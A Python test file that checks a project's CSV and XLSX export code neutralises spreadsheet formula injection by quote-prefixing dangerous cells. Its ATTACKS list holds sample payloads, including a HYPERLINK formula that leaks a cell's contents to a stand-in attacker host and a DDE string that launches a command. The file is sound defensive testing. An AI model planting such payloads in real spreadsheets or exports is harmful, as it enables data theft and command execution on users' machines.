"""core.exports: no cell of a CSV or XLSX export can become a formula (issue 12, formula injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from kommuneki.core import exports

ATTACKS = [
    '=HYPERLINK("https://angriper.example/?x="&A1;"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Storgata 1", "0301-12/40", "e-post: kari@example.no", "", "50 %"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_for_csv(text):
    assert exports.is_formula_like(text)
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -5, 3.5, None, True])
def test_other_values_pass_unchanged(value):
    assert not exports.is_formula_like(value)
    assert exports.neutralise(value) == value


def test_csv_writers_neutralise_every_cell_and_keep_numbers():
    buf = io.StringIO()
    w = exports.csv_writer(buf, delimiter=";")
    w.writerow(["=tittel", "verdi"])
    w.writerows([[a, -5] for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert rows[0] == ["'=tittel", "verdi"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert all(r[1] == "-5" for r in rows[1:])
    buf = io.StringIO()
    d = exports.csv_dict_writer(buf, ["a", "b"], delimiter=";")
    d.writeheader()
    d.writerow({"a": "@x", "b": 2})
    assert buf.getvalue().splitlines() == ["a;b", "'@x;2"]


def test_xlsx_keeps_the_text_exactly_as_text_never_as_a_formula():
    from openpyxl import load_workbook

    data = exports.xlsx_bytes(["Eiendom", "Verdi"], [[a, 1.5] for a in ATTACKS] + [["Storgata 1", -5]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    cells = [(c.value, c.data_type) for c in ws["A"][1:]]
    assert [v for v, _t in cells[: len(ATTACKS)]] == ATTACKS
    assert all(t == "s" for _v, t in cells) and all(c.quotePrefix for c in ws["A"][1 : len(ATTACKS) + 1])
    assert ws["B10"].value == -5 and ws["B2"].value == 1.5
